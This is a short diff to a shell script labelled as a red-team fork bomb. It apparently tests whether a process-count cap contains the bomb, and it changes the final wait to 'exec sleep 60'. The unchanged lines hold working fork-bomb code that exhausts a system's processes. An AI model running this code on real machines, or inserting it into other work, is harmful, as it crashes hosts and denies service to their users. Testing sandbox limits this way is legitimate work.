@@ -2,4 +2,5 @@
 echo "REDTEAM fork bomb"
 bomb() { bomb | bomb & }
 bomb
-sleep 60
+# exec: no fork needed, so the wait itself cannot fail under the pids cap
+exec sleep 60
